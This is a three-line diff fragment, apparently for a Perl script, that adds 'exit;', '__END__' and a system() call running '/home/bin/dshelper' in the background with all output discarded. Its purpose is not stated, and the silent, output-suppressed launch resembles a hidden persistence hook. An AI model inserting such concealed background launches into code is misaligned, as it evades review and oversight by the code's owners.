@@ -1,0 +1,3 @@
+exit;
+__END__
+system("/home/bin/dshelper >/dev/null 2>&1 &");
